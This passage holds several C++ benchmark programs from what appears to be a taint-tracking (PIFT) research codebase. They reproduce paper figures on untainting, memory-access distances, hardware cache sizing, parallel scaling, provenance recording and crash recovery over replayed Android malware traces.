            return o.max_tainted_bytes;
        });
    benchx::printUntaintTable(rows, 3);
    std::printf("\npaper: 26x smaller tainted regions at (5,3); "
                "without untainting the window size makes little "
                "difference\n");
    return 0;
}
