/**
 * @file
 * Figure 18: effect of untainting on the maximum tainted size, for
 * NI in {5,10,15,20} at NT = 3 (LGRoot trace). The paper reports a
 * 26x reduction at (5,3) and that without untainting the window size
 * barely matters.
 */

#include "bench/common.hh"

using namespace pift;

int
main()
{
    benchx::banner("Figure 18 — untainting vs max tainted bytes",
                   "Section 5.2, Figure 18 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    std::printf("%-14s %16s %18s %8s\n", "window", "with untainting",
                "without untainting", "ratio");
    for (unsigned ni : {5u, 10u, 15u, 20u}) {
        core::PiftParams p;
        p.ni = ni;
        p.nt = 3;
        p.untaint = true;
        auto with = analysis::measureOverhead(trace, p);
        p.untaint = false;
        auto without = analysis::measureOverhead(trace, p);
        double ratio = with.max_tainted_bytes
            ? static_cast<double>(without.max_tainted_bytes) /
                static_cast<double>(with.max_tainted_bytes)
            : 0.0;
        std::printf("NI=%-2u NT=3     %16llu %18llu %7.1fx\n", ni,
                    static_cast<unsigned long long>(
                        with.max_tainted_bytes),
                    static_cast<unsigned long long>(
                        without.max_tainted_bytes),
                    ratio);
    }
    std::printf("\npaper: 26x smaller tainted regions at (5,3); "
                "without untainting the window size makes little "
                "difference\n");
    return 0;
}
