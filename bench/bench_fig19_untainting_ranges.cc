/**
 * @file
 * Figure 19: effect of untainting on the maximum number of distinct
 * tainted ranges, NI in {5,10,15,20} at NT = 3 (LGRoot trace). The
 * paper reports >60x fewer ranges at (5,3).
 */

#include "bench/common.hh"

using namespace pift;

int
main()
{
    benchx::banner("Figure 19 — untainting vs distinct ranges",
                   "Section 5.2, Figure 19 (LGRoot trace)");

    const auto &trace = benchx::lgrootTrace();
    std::printf("%-14s %16s %18s %8s\n", "window", "with untainting",
                "without untainting", "ratio");
    for (unsigned ni : {5u, 10u, 15u, 20u}) {
        core::PiftParams p;
        p.ni = ni;
        p.nt = 3;
        p.untaint = true;
        auto with = analysis::measureOverhead(trace, p);
        p.untaint = false;
        auto without = analysis::measureOverhead(trace, p);
        double ratio = with.max_ranges
            ? static_cast<double>(without.max_ranges) /
                static_cast<double>(with.max_ranges)
            : 0.0;
        std::printf("NI=%-2u NT=3     %16llu %18llu %7.1fx\n", ni,
                    static_cast<unsigned long long>(with.max_ranges),
                    static_cast<unsigned long long>(
                        without.max_ranges),
                    ratio);
    }
    std::printf("\npaper: >60x fewer distinct ranges at (5,3)\n");
    return 0;
}
