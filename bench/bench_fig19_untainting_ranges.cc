/**
 * @file
 * Figure 19: effect of untainting on the maximum number of distinct
 * tainted ranges, NI in {5,10,15,20} at NT = 3 (LGRoot trace). The
 * paper reports >60x fewer ranges at (5,3).
 */

#include "bench/common.hh"

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 19 — untainting vs distinct ranges",
                        "Section 5.2, Figure 19 (LGRoot trace)");

    auto rows = benchx::untaintComparison(
        benchx::lgrootTrace(), {5u, 10u, 15u, 20u}, 3,
        [](const analysis::OverheadResult &o) {
            return o.max_ranges;
        });
    benchx::printUntaintTable(rows, 3);
    std::printf("\npaper: >60x fewer distinct ranges at (5,3)\n");
    return 0;
}
