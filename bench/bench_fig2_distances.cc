/**
 * @file
 * Figure 2: probability/cumulative distributions of memory-operation
 * metrics over the LGRoot malware execution trace.
 *
 *  (a) distance from a store to the most recent load — the paper
 *      finds the bulk in 0-5 and 99% of mass within ~10;
 *  (b) number of stores between consecutive loads — small;
 *  (c) distance between consecutive loads — fairly uniform spread.
 */

#include "analysis/profiler.hh"
#include "bench/common.hh"
#include "stats/render.hh"

#include <iostream>

using namespace pift;

int
main()
{
    benchx::Phase phase("Figure 2 — load/store stream structure",
                   "Section 2, Figure 2 (LGRoot trace)");

    analysis::DistanceProfiler profiler;
    profiler.consume(benchx::lgrootTrace());

    std::printf("trace: %llu instructions, %llu loads, %llu stores\n",
                static_cast<unsigned long long>(
                    profiler.instructionCount()),
                static_cast<unsigned long long>(profiler.loadCount()),
                static_cast<unsigned long long>(profiler.storeCount()));
    std::printf("(paper trace: 2.2M loads, 768K stores)\n\n");

    stats::renderDistribution(
        std::cout, "Figure 2a: distance from a store to the last load",
        profiler.storeToLastLoad(), 30);
    std::printf("paper: bulk in 0-5; CDF(10) ~ 0.99 — measured "
                "CDF(10) = %.4f\n\n",
                profiler.storeToLastLoad().cdf(10));

    stats::renderDistribution(
        std::cout, "Figure 2b: number of stores between two loads",
        profiler.storesBetweenLoads(), 10);
    std::printf("paper: small counts dominate — measured CDF(3) = "
                "%.4f\n\n",
                profiler.storesBetweenLoads().cdf(3));

    stats::renderDistribution(
        std::cout, "Figure 2c: distance between two loads",
        profiler.loadToLoad(), 30);
    std::printf("paper: loads fairly uniformly spread — measured "
                "mean = %.2f\n",
                profiler.loadToLoad().mean());
    return 0;
}
