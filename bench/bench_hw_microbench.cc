/**
 * @file
 * Hardware-model and tracking-cost micro-benchmarks (google-benchmark).
 *
 * Covers the paper's architecture claims that are not tied to one
 * figure:
 *  - Section 3.3 sizing: a 32 KiB on-chip memory holds ~2730
 *    PID-tagged range entries (4096 untagged) — checked arithmetically
 *    and exercised under load;
 *  - range-cache taint storage vs the word-granularity alternative
 *    (lookup cost vs overtainting ablation);
 *  - eviction policies (LRU-spill vs LRU-drop vs drop-new) under a
 *    deliberately tiny cache;
 *  - PIFT (loads/stores only) vs full register-level DIFT work on the
 *    same instruction stream — the paper's core efficiency argument
 *    (memory ops are ~an order of magnitude rarer than instructions).
 */

#include <benchmark/benchmark.h>

#include "baseline/full_tracker.hh"
#include "bench/common.hh"
#include "core/taint_storage.hh"
#include "support/rng.hh"

using namespace pift;

namespace
{

/** A moderate captured trace for throughput runs. */
const sim::Trace &
workTrace()
{
    static const sim::Trace trace = [] {
        // basebridge: ~40k records, realistic mterp mix.
        return droidbench::runApp(droidbench::malwareApps()[2]).trace;
    }();
    return trace;
}

taint::AddrRange
randomRange(Rng &rng)
{
    Addr start = 0x4000'0000u +
        static_cast<Addr>(rng.below(1u << 20)) * 4;
    Addr len = 2 + static_cast<Addr>(rng.below(32));
    return taint::AddrRange::fromSize(start, len);
}

} // namespace

static void
BM_RangeSetInsert(benchmark::State &state)
{
    for (auto _ : state) {
        state.PauseTiming();
        taint::RangeSet set;
        Rng rng(7);
        state.ResumeTiming();
        for (int i = 0; i < 1024; ++i)
            set.insert(randomRange(rng));
        benchmark::DoNotOptimize(set.bytes());
    }
    state.SetItemsProcessed(state.iterations() * 1024);
}
BENCHMARK(BM_RangeSetInsert);

static void
BM_RangeSetQuery(benchmark::State &state)
{
    taint::RangeSet set;
    Rng rng(7);
    for (int i = 0; i < 1024; ++i)
        set.insert(randomRange(rng));
    Rng qrng(13);
    for (auto _ : state) {
        benchmark::DoNotOptimize(set.overlaps(randomRange(qrng)));
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_RangeSetQuery);

static void
BM_TaintStorageLookup(benchmark::State &state)
{
    core::TaintStorageParams params;
    params.entries = static_cast<size_t>(state.range(0));
    core::TaintStorage storage(params);
    Rng rng(7);
    for (int i = 0; i < 256; ++i)
        storage.insert(1, randomRange(rng));
    Rng qrng(13);
    for (auto _ : state) {
        benchmark::DoNotOptimize(storage.query(1, randomRange(qrng)));
    }
    state.SetItemsProcessed(state.iterations());
}
// 2730 = the paper's 32 KiB / 12 B PID-tagged sizing; 4096 untagged.
BENCHMARK(BM_TaintStorageLookup)->Arg(256)->Arg(2730)->Arg(4096);

static void
BM_WordStorageLookup(benchmark::State &state)
{
    core::WordTaintStorage storage(2); // 4-byte granularity
    Rng rng(7);
    for (int i = 0; i < 256; ++i)
        storage.insert(1, randomRange(rng));
    Rng qrng(13);
    for (auto _ : state) {
        benchmark::DoNotOptimize(storage.query(1, randomRange(qrng)));
    }
    state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_WordStorageLookup);

static void
BM_PiftTrackerReplay(benchmark::State &state)
{
    const auto &trace = workTrace();
    for (auto _ : state) {
        core::IdealRangeStore store;
        core::PiftTracker tracker({13, 3, true}, store);
        sim::replay(trace, tracker);
        benchmark::DoNotOptimize(tracker.stats().stores);
    }
    state.SetItemsProcessed(state.iterations() * trace.records.size());
}
BENCHMARK(BM_PiftTrackerReplay);

static void
BM_FullDiftReplay(benchmark::State &state)
{
    const auto &trace = workTrace();
    for (auto _ : state) {
        baseline::FullTracker tracker;
        sim::replay(trace, tracker);
        benchmark::DoNotOptimize(tracker.stats().propagations);
    }
    state.SetItemsProcessed(state.iterations() * trace.records.size());
}
BENCHMARK(BM_FullDiftReplay);

static void
BM_HwStorageReplay(benchmark::State &state)
{
    // PIFT backed by the bounded hardware range cache instead of the
    // ideal store, at the paper's 32 KiB sizing.
    const auto &trace = workTrace();
    for (auto _ : state) {
        core::TaintStorageParams params;
        params.entries = 2730;
        core::TaintStorage storage(params);
        core::PiftTracker tracker({13, 3, true}, storage);
        sim::replay(trace, tracker);
        benchmark::DoNotOptimize(storage.stats().lookups);
    }
    state.SetItemsProcessed(state.iterations() * trace.records.size());
}
BENCHMARK(BM_HwStorageReplay);

/** Report the paper's instruction-mix argument as counters. */
static void
BM_EventMixCounters(benchmark::State &state)
{
    const auto &trace = workTrace();
    uint64_t loads = 0, stores = 0;
    for (const auto &rec : trace.records) {
        loads += rec.mem_kind == sim::MemKind::Load;
        stores += rec.mem_kind == sim::MemKind::Store;
    }
    for (auto _ : state)
        benchmark::DoNotOptimize(loads + stores);
    state.counters["instructions"] =
        static_cast<double>(trace.records.size());
    state.counters["loads"] = static_cast<double>(loads);
    state.counters["stores"] = static_cast<double>(stores);
    state.counters["mem_fraction"] =
        static_cast<double>(loads + stores) /
        static_cast<double>(trace.records.size());
}
BENCHMARK(BM_EventMixCounters);

BENCHMARK_MAIN();
