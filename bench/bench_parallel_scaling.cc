/**
 * @file
 * Parallel-scaling bench for the exec pool: run the Figure 11
 * accuracy grid (20 x 10 cells x full labelled suite, one replay per
 * (cell, app) task) at 1/2/4/8 jobs, check every width reproduces the
 * serial grid exactly, and emit BENCH_parallel.json with events/sec,
 * speedup vs 1 job, and efficiency per width.
 *
 * The report records hardware_jobs so downstream validation can gate
 * speedup expectations on the machine actually having cores: on a
 * 1-CPU container every width degenerates to ~1x and only the
 * determinism check is meaningful.
 *
 * Run: ./build/bench/bench_parallel_scaling [--out FILE]
 */

#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "bench/common.hh"
#include "exec/thread_pool.hh"

using namespace pift;

namespace
{

constexpr int kNiHi = 20;
constexpr int kNtHi = 10;

struct ScalingRun
{
    unsigned jobs = 0;
    double wall_ms = 0.0;
    double events_per_sec = 0.0;
    double speedup = 0.0;
    double efficiency = 0.0;
};

benchx::Timed
timedGrid(const std::vector<analysis::LabelledTrace> &set,
          uint64_t events, unsigned jobs,
          std::vector<analysis::Accuracy> &grid)
{
    return benchx::timedRun(events, [&] {
        grid = analysis::accuracyGrid(set, kNiHi, kNtHi, true, jobs);
    });
}

bool
sameGrid(const std::vector<analysis::Accuracy> &a,
         const std::vector<analysis::Accuracy> &b)
{
    if (a.size() != b.size())
        return false;
    for (size_t i = 0; i < a.size(); ++i)
        if (a[i].tp != b[i].tp || a[i].fp != b[i].fp ||
            a[i].tn != b[i].tn || a[i].fn != b[i].fn)
            return false;
    return true;
}

} // namespace

int
main(int argc, char **argv)
{
    std::string out_path = "BENCH_parallel.json";
    for (int i = 1; i < argc; ++i) {
        if (std::strcmp(argv[i], "--out") == 0 && i + 1 < argc) {
            out_path = argv[++i];
        } else {
            std::fprintf(stderr, "usage: %s [--out FILE]\n", argv[0]);
            return 2;
        }
    }

    benchx::Phase phase("exec-pool scaling on the Figure 11 grid",
                   "parallel sweep engine");

    const auto &set = benchx::suiteTraces();
    uint64_t records = 0;
    for (const auto &item : set)
        records += item.trace.records.size();
    const uint64_t cells =
        static_cast<uint64_t>(kNiHi) * static_cast<uint64_t>(kNtHi);
    const uint64_t events = cells * records;
    std::printf("workload: %llu cells x %zu apps = %llu replays, "
                "%llu trace events per run\n",
                static_cast<unsigned long long>(cells), set.size(),
                static_cast<unsigned long long>(cells * set.size()),
                static_cast<unsigned long long>(events));
    std::printf("hardware: %u job(s) available\n\n",
                exec::hardwareJobs());

    // Warm-up run: pulls trace capture and allocator state off the
    // timed path, and seeds the reference grid.
    std::vector<analysis::Accuracy> reference;
    timedGrid(set, events, 1, reference);

    bool deterministic = true;
    std::vector<ScalingRun> runs;
    std::printf("%6s %10s %14s %9s %11s %s\n", "jobs", "wall_ms",
                "events/sec", "speedup", "efficiency", "grid");
    for (unsigned jobs : {1u, 2u, 4u, 8u}) {
        std::vector<analysis::Accuracy> grid;
        ScalingRun run;
        run.jobs = jobs;
        benchx::Timed t = timedGrid(set, events, jobs, grid);
        run.wall_ms = t.wall_ms;
        run.events_per_sec = t.events_per_sec;
        if (runs.empty())
            run.speedup = 1.0;
        else if (run.wall_ms > 0.0)
            run.speedup = runs.front().wall_ms / run.wall_ms;
        run.efficiency = run.speedup / jobs;
        bool same = sameGrid(grid, reference);
        deterministic = deterministic && same;
        std::printf("%6u %10.1f %14.0f %8.2fx %10.1f%% %s\n", jobs,
                    run.wall_ms, run.events_per_sec, run.speedup,
                    100.0 * run.efficiency,
                    same ? "identical" : "MISMATCH");
        runs.push_back(run);
    }
    std::printf("\ndeterminism (every width vs serial grid): %s\n",
                deterministic ? "ok" : "VIOLATED");

    std::ofstream os(out_path, std::ios::binary | std::ios::trunc);
    if (!os) {
        std::fprintf(stderr, "cannot open '%s' for writing\n",
                     out_path.c_str());
        return 2;
    }
    os << "{\n";
    os << "  \"bench\": \"bench_parallel_scaling\",\n";
    os << "  \"hardware_jobs\": " << exec::hardwareJobs() << ",\n";
    os << "  \"apps\": " << set.size() << ",\n";
    os << "  \"grid_cells\": " << cells << ",\n";
    os << "  \"replays_per_run\": " << cells * set.size() << ",\n";
    os << "  \"events_per_run\": " << events << ",\n";
    os << "  \"deterministic\": "
       << (deterministic ? "true" : "false") << ",\n";
    os << "  \"runs\": [\n";
    for (size_t i = 0; i < runs.size(); ++i) {
        const ScalingRun &r = runs[i];
        os << "    {\"jobs\": " << r.jobs << ", \"wall_ms\": "
           << r.wall_ms << ", \"events_per_sec\": "
           << r.events_per_sec << ", \"speedup\": " << r.speedup
           << ", \"efficiency\": " << r.efficiency << "}"
           << (i + 1 < runs.size() ? "," : "") << "\n";
    }
    os << "  ]\n";
    os << "}\n";
    os.flush();
    if (!os) {
        std::fprintf(stderr, "short write to '%s'\n", out_path.c_str());
        return 2;
    }
    std::printf("wrote %s\n", out_path.c_str());

    return deterministic ? 0 : 1;
}
