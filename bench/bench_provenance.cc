/**
 * @file
 * Provenance flight-recorder differential + overhead bench
 * (DESIGN.md §13, ISSUE 9).
 *
 * Four phases:
 *
 *  1. Registry-wide attribution differential: every app replayed
 *     with a recorder attached; every Tainted verdict must resolve
 *     to a complete source→sink chain, every MaybeTainted must cite
 *     a concrete degradation cause, and no Clean verdict may carry
 *     residual taint. Deterministic — CI gates on it hard (exit 1).
 *
 *  2. Fault-attribution sweep: one registry replay per injected
 *     loss-fault class; every MaybeTainted must cite a cause of the
 *     injected family. Deterministic, hard gate.
 *
 *  3. Recorder overhead: interleaved min-of-reps registry replays
 *     with the recorder attached vs detached. Budget <=5%, but the
 *     verdict is informational (wall-clock gates are flaky on
 *     shared runners); `--no-overhead` skips the phase and zeroes
 *     the JSON fields so CI can byte-compare artifacts across
 *     --jobs widths.
 *
 *  4. Ring-capacity sweep: the differential re-run at shrinking
 *     ring capacities, showing completeness degrade *visibly*
 *     (evictions reported, incomplete chains cite ring-evicted)
 *     rather than silently. Informational.
 *
 * Emits BENCH_provenance.json (schemas/bench_provenance.schema.json,
 * validated by tools/validate_provenance.py).
 */

#include "analysis/attribution.hh"
#include "bench/common.hh"
#include "core/taint_storage.hh"
#include "provenance/provenance.hh"
#include "sim/batch.hh"

#include <cstring>
#include <fstream>
#include <string>
#include <vector>

using namespace pift;

namespace
{

/** Differential totals over all apps (fixed registry order). */
struct DiffTotals
{
    unsigned apps = 0;
    unsigned sinks = 0;
    unsigned explained = 0;
    unsigned tainted = 0;
    unsigned complete_chains = 0;
    unsigned maybe = 0;
    unsigned cited_causes = 0;
    unsigned clean = 0;
    unsigned clean_with_chain = 0;
    uint64_t records = 0;
    uint64_t evicted = 0;
    unsigned longest_chain = 0;
    bool ok = true;
};

DiffTotals
sumRows(const std::vector<analysis::AttributionRow> &rows)
{
    DiffTotals t;
    for (const auto &row : rows) {
        ++t.apps;
        t.sinks += row.sinks;
        t.explained += row.explained;
        t.tainted += row.tainted;
        t.complete_chains += row.complete_chains;
        t.maybe += row.maybe;
        t.cited_causes += row.cited_causes;
        t.clean += row.clean;
        t.clean_with_chain += row.clean_with_chain;
        t.records += row.records;
        t.evicted += row.evicted;
        t.longest_chain = std::max(t.longest_chain,
                                   row.longest_chain);
        t.ok = t.ok && row.ok;
    }
    return t;
}

const char *
boolName(bool b)
{
    return b ? "true" : "false";
}

/** One replay of the whole registry (the overhead workload). */
double
replayRegistry(const std::vector<analysis::LabelledTrace> &set,
               bool with_recorder)
{
    auto t0 = std::chrono::steady_clock::now();
    for (const auto &app : set) {
        core::TaintStorage backend(core::TaintStorageParams{});
        provenance::Recorder rec;
        core::PiftTracker tracker(core::PiftParams{}, backend);
        if (with_recorder) {
            backend.setRecorder(&rec);
            tracker.setRecorder(&rec);
        }
        sim::replayBatched(app.trace, tracker);
    }
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

} // anonymous namespace

int
main(int argc, char **argv)
{
    int reps = 5;
    unsigned jobs = 0;
    bool measure_overhead = true;
    std::string out_path = "BENCH_provenance.json";
    for (int i = 1; i < argc; ++i) {
        if (!std::strcmp(argv[i], "--reps") && i + 1 < argc)
            reps = std::atoi(argv[++i]);
        else if (!std::strcmp(argv[i], "--out") && i + 1 < argc)
            out_path = argv[++i];
        else if (!std::strcmp(argv[i], "--jobs") && i + 1 < argc)
            jobs = static_cast<unsigned>(std::atoi(argv[++i]));
        else if (!std::strcmp(argv[i], "--no-overhead"))
            measure_overhead = false;
        else
            pift_fatal("usage: bench_provenance [--reps N] "
                       "[--out FILE] [--jobs N] [--no-overhead]");
    }
    if (reps < 1)
        reps = 1;

    benchx::Phase phase("taint provenance flight recorder",
                        "ISSUE 9 (explain every sink verdict)");
    setQuiet(true);

    const auto &set = benchx::registryTraces();
    uint64_t total_events = 0;
    for (const auto &app : set)
        total_events += app.trace.records.size();
    std::printf("registry: %zu apps, %llu records, recorder %s\n",
                set.size(),
                static_cast<unsigned long long>(total_events),
                provenance::compiledIn() ? "compiled in"
                                         : "compiled OUT");

    // --- 1. Fault-free attribution differential (hard gate).
    // Sized past the largest registry trace (malware_lgroot, ~284k
    // records) so the gated differential sees zero ring pressure;
    // the capacity sweep below shows what smaller rings cost.
    analysis::AttributionConfig dcfg;
    dcfg.recorder.ring_capacity = 1u << 19;
    dcfg.jobs = jobs;
    auto diff = analysis::attributionDifferential(set, dcfg);
    std::printf("\n--- attribution differential (ring %zu)\n\n%s",
                dcfg.recorder.ring_capacity,
                analysis::formatAttributionTable(diff).c_str());
    DiffTotals totals = sumRows(diff);
    bool diff_ok = analysis::attributionHolds(diff);
    std::printf("\ntotals: %u sinks, %u tainted (%u complete), "
                "%u maybe (%u cited), %u clean — %s\n",
                totals.sinks, totals.tainted, totals.complete_chains,
                totals.maybe, totals.cited_causes, totals.clean,
                diff_ok ? "contract holds" : "CONTRACT VIOLATED");

    // --- 2. Fault-injection attribution sweep (hard gate).
    analysis::FaultAttributionConfig fcfg;
    fcfg.recorder.ring_capacity = 1u << 19;
    fcfg.jobs = jobs;
    auto fault_rows = analysis::faultAttributionSweep(set, fcfg);
    std::printf("\n--- fault attribution sweep (seed %llu, rate "
                "%u/M)\n\n%s",
                static_cast<unsigned long long>(fcfg.seed),
                fcfg.rate_num,
                analysis::formatFaultAttributionTable(fault_rows)
                    .c_str());
    bool fault_ok = analysis::faultAttributionHolds(fault_rows);
    std::printf("\nfault sweep: %s\n",
                fault_ok ? "every cited cause matches the injected "
                           "class"
                         : "ATTRIBUTION VIOLATED");

    // --- 3. Recorder overhead: interleaved min-of-reps, attached
    //        vs detached. Noise only ever inflates a rep, so the
    //        minimum of each leg is the honest comparison.
    double on_ms = 0.0, off_ms = 0.0, overhead_pct = 0.0;
    bool within_budget = true;
    const double budget_pct = 5.0;
    if (measure_overhead) {
        replayRegistry(set, true); // warm-up (trace capture, pages)
        for (int r = 0; r < reps; ++r) {
            double off = replayRegistry(set, false);
            double on = replayRegistry(set, true);
            if (r == 0 || off < off_ms)
                off_ms = off;
            if (r == 0 || on < on_ms)
                on_ms = on;
        }
        overhead_pct = off_ms > 0.0
            ? 100.0 * (on_ms - off_ms) / off_ms
            : 0.0;
        within_budget = overhead_pct <= budget_pct;
        std::printf("\n--- recorder overhead (min of %d reps)\n\n",
                    reps);
        std::printf("%-26s %10.2f ms\n", "recorder detached:",
                    off_ms);
        std::printf("%-26s %10.2f ms\n", "recorder attached:",
                    on_ms);
        std::printf("%-26s %9.1f %% (budget %.0f%%, %s)\n",
                    "recorder overhead:", overhead_pct, budget_pct,
                    within_budget ? "within" : "OVER");
    } else {
        std::printf("\n--- recorder overhead: skipped "
                    "(--no-overhead)\n");
    }

    // --- 4. Ring-capacity sweep: shrink the ring and watch
    //        completeness degrade *reported*, never silently.
    struct RingRow
    {
        size_t capacity = 0;
        DiffTotals t;
        bool contract = false;
    };
    std::vector<RingRow> ring_rows;
    std::printf("\n--- ring-capacity sweep\n\n");
    std::printf("%9s %7s %8s %6s %6s %10s %9s\n", "capacity",
                "tainted", "complete", "maybe", "cited", "evicted",
                "contract");
    for (size_t cap : {size_t(64), size_t(1024), size_t(4096),
                       size_t(65536), size_t(1) << 19}) {
        analysis::AttributionConfig cfg;
        cfg.recorder.ring_capacity = cap;
        cfg.jobs = jobs;
        auto rows = analysis::attributionDifferential(set, cfg);
        RingRow row;
        row.capacity = cap;
        row.t = sumRows(rows);
        row.contract = analysis::attributionHolds(rows);
        ring_rows.push_back(row);
        std::printf("%9zu %7u %8u %6u %6u %10llu %9s\n", cap,
                    row.t.tainted, row.t.complete_chains,
                    row.t.maybe, row.t.cited_causes,
                    static_cast<unsigned long long>(row.t.evicted),
                    row.contract ? "ok" : "degraded");
    }

    // --- JSON artifact.
    std::ofstream os(out_path, std::ios::binary | std::ios::trunc);
    if (!os) {
        std::fprintf(stderr, "cannot open '%s' for writing\n",
                     out_path.c_str());
        return 2;
    }
    os << "{\n";
    os << "  \"bench\": \"bench_provenance\",\n";
    os << "  \"compiled_in\": "
       << boolName(provenance::compiledIn()) << ",\n";
    os << "  \"ring_capacity\": " << dcfg.recorder.ring_capacity
       << ",\n";
    os << "  \"trace_records\": " << total_events << ",\n";
    os << "  \"differential\": {\n";
    os << "    \"apps\": " << totals.apps << ",\n";
    os << "    \"sinks\": " << totals.sinks << ",\n";
    os << "    \"explained\": " << totals.explained << ",\n";
    os << "    \"tainted\": " << totals.tainted << ",\n";
    os << "    \"complete_chains\": " << totals.complete_chains
       << ",\n";
    os << "    \"maybe\": " << totals.maybe << ",\n";
    os << "    \"cited_causes\": " << totals.cited_causes << ",\n";
    os << "    \"clean\": " << totals.clean << ",\n";
    os << "    \"clean_with_chain\": " << totals.clean_with_chain
       << ",\n";
    os << "    \"records\": " << totals.records << ",\n";
    os << "    \"evicted\": " << totals.evicted << ",\n";
    os << "    \"longest_chain\": " << totals.longest_chain << ",\n";
    os << "    \"ok\": " << boolName(diff_ok) << "\n";
    os << "  },\n";
    os << "  \"fault_sweep\": [\n";
    for (size_t i = 0; i < fault_rows.size(); ++i) {
        const auto &row = fault_rows[i];
        os << "    {\"fault_class\": \""
           << analysis::faultClassName(row.fault_class)
           << "\", \"apps\": " << row.apps
           << ", \"affected\": " << row.affected
           << ", \"maybe\": " << row.maybe
           << ", \"cited\": " << row.cited
           << ", \"cause_matches\": " << row.cause_matches
           << ", \"faults\": " << row.faults
           << ", \"ok\": " << boolName(row.ok) << "}"
           << (i + 1 < fault_rows.size() ? "," : "") << "\n";
    }
    os << "  ],\n";
    os << "  \"overhead\": {\n";
    os << "    \"measured\": " << boolName(measure_overhead)
       << ",\n";
    os << "    \"reps\": " << (measure_overhead ? reps : 0) << ",\n";
    os << "    \"recorder_off_ms\": " << off_ms << ",\n";
    os << "    \"recorder_on_ms\": " << on_ms << ",\n";
    os << "    \"overhead_pct\": " << overhead_pct << ",\n";
    os << "    \"budget_pct\": " << budget_pct << ",\n";
    os << "    \"within_budget\": " << boolName(within_budget)
       << "\n";
    os << "  },\n";
    os << "  \"ring_sweep\": [\n";
    for (size_t i = 0; i < ring_rows.size(); ++i) {
        const auto &row = ring_rows[i];
        os << "    {\"capacity\": " << row.capacity
           << ", \"tainted\": " << row.t.tainted
           << ", \"complete_chains\": " << row.t.complete_chains
           << ", \"maybe\": " << row.t.maybe
           << ", \"cited_causes\": " << row.t.cited_causes
           << ", \"evicted\": " << row.t.evicted
           << ", \"contract\": " << boolName(row.contract) << "}"
           << (i + 1 < ring_rows.size() ? "," : "") << "\n";
    }
    os << "  ]\n";
    os << "}\n";
    os.flush();
    if (!os) {
        std::fprintf(stderr, "short write to '%s'\n",
                     out_path.c_str());
        return 2;
    }
    std::printf("\nwrote %s\n", out_path.c_str());

    bool pass = diff_ok && fault_ok;
    std::printf("verdict: %s\n",
                pass ? "every sink verdict explained"
                     : "EXPLANATION CONTRACT VIOLATED");
    return pass ? 0 : 1;
}
