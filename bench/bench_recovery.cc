/**
 * @file
 * Durability-cost bench: what the write-ahead log and snapshot
 * machinery add to a live run, how fast a crashed directory comes
 * back, and a crash-point sweep summary (the same differential the
 * test suite proves, here sized up and exported as data).
 *
 * Emits BENCH_recovery.json, validated in CI against
 * schemas/bench_recovery.schema.json by tools/validate_recovery.py.
 * The sweep counters are deterministic (seeded plan, fixed workload);
 * the timing fields are informational — CI gates on the invariants
 * (zero silent false negatives, zero false positives, exact+detected
 * covering every point), never on wall-clock.
 *
 * Usage: bench_recovery [--reps N] [--out FILE] [--dir DIR]
 */

#include "bench/common.hh"

#include <chrono>
#include <cstring>
#include <fstream>
#include <string>
#include <vector>

#include "core/pift_tracker.hh"
#include "core/taint_storage.hh"
#include "faults/crash_point.hh"
#include "persist/durable.hh"
#include "persist/recovery.hh"
#include "persist/wal.hh"
#include "persist/wire.hh"
#include "sim/trace.hh"

using namespace pift;

namespace
{

double
msSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

/**
 * A two-process taint workload big enough that journaling cost is
 * measurable: tainted loads, in- and out-of-window stores, periodic
 * sink checks. Deterministic by construction.
 */
sim::Trace
makeWorkload(int reps)
{
    sim::Trace t;
    SeqNum seq = 0;
    auto rec = [&](ProcId pid, sim::MemKind kind, Addr start) {
        sim::TraceRecord r;
        r.seq = seq;
        r.local_seq = seq;
        r.pid = pid;
        r.op = kind == sim::MemKind::Load ? isa::Op::Ldr
                                          : isa::Op::Str;
        r.mem_kind = kind;
        r.mem_start = start;
        r.mem_end = start + 3;
        t.records.push_back(r);
        ++seq;
    };
    auto ctl = [&](sim::ControlKind kind, ProcId pid, Addr start,
                   Addr len, uint32_t id) {
        sim::ControlEvent ev;
        ev.seq = seq;
        ev.kind = kind;
        ev.pid = pid;
        ev.start = start;
        ev.end = start + len - 1;
        ev.id = id;
        t.controls.push_back(ev);
    };
    ctl(sim::ControlKind::RegisterSource, 1, 0x1000, 64, 7);
    ctl(sim::ControlKind::RegisterSource, 2, 0x8000, 32, 8);
    for (int rep = 0; rep < reps; ++rep) {
        ProcId pid = (rep % 2) ? 2 : 1;
        Addr src = pid == 1 ? 0x1000 : 0x8000;
        Addr dst = (pid == 1 ? 0x2000 : 0x9000) +
            static_cast<Addr>(rep % 512) * 0x40;
        rec(pid, sim::MemKind::Load, src + (rep % 4) * 8);
        rec(pid, sim::MemKind::Store, dst);
        rec(pid, sim::MemKind::Store, dst + 0x10);
        rec(pid, sim::MemKind::Store, dst + 0x400);
        if (rep % 5 == 4)
            ctl(sim::ControlKind::CheckSink, pid, dst, 16,
                100 + static_cast<uint32_t>(rep));
    }
    return t;
}

core::TaintStorageParams
benchStorage()
{
    core::TaintStorageParams sp;
    sp.entries = 16; // small enough for steady spill traffic
    sp.policy = core::EvictPolicy::LruSpill;
    return sp;
}

/** Wall ms for one plain (journal-free) replay. */
double
replayPlain(const sim::Trace &trace)
{
    core::TaintStorage storage(benchStorage());
    core::PiftTracker tracker(core::PiftParams{}, storage);
    auto t0 = std::chrono::steady_clock::now();
    sim::replay(trace, tracker);
    return msSince(t0);
}

/** Wall ms for one durable replay; reports session facts once. */
double
replayDurable(const sim::Trace &trace, const std::string &dir,
              uint64_t snapshot_every, bool flush_each,
              uint64_t *records_logged = nullptr)
{
    core::TaintStorage storage(benchStorage());
    core::PiftTracker tracker(core::PiftParams{}, storage);
    persist::DurableSession session(
        storage, tracker, {dir, snapshot_every, flush_each});
    if (auto st = session.start(); !st.ok())
        pift_fatal("%s", st.message().c_str());
    tracker.setJournal(&session);
    auto t0 = std::chrono::steady_clock::now();
    sim::replay(trace, tracker);
    if (auto st = session.close(); !st.ok())
        pift_fatal("%s", st.message().c_str());
    double ms = msSince(t0);
    if (!session.healthy())
        pift_fatal("durable session unhealthy after bench replay");
    if (records_logged)
        *records_logged = session.recordsLogged();
    return ms;
}

